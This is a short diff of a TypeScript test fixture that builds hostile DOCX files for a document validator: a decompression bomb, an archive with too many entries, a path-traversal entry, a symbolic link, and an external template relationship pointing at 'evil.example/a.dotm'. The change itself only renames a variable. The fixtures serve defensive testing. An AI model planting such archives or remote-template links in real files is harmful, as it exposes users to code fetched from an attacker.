@@ -13,7 +13,9 @@ const relationships = (tag: string) =>
 export async function hostileArchives(): Promise<HostileFile[]> {
   const good = await docx({});
   const bomb = await docx({ 'word/media/a.xml': { content: Buffer.alloc(101 * MEGABYTE, 32) } });
-  const many = Object.fromEntries(Array.from({ length: 1_001 }, (_, index) => [`word/${index}.xml`, '<a/>']));
+  const parts = Object.fromEntries(
+    Array.from({ length: 1_001 }, (_, index) => [`word/${index}.xml`, '<a/>']),
+  );
   const external =
     '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';
   const slip = patched(
@@ -29,7 +31,7 @@ export async function hostileArchives(): Promise<HostileFile[]> {
       file: withFalseSize(declared, 50_000),
       expected: ['damaged'],
     },
-    { name: 'a DOCX of 1,001 files', file: await docx(many), expected: ['too_many_entries'] },
+    { name: 'a DOCX of 1,001 files', file: await docx(parts), expected: ['too_many_entries'] },
     { name: 'a DOCX that climbs out of its folder', file: slip, expected: ['ambiguous'] },
     {
       name: 'a DOCX with a symbolic link',
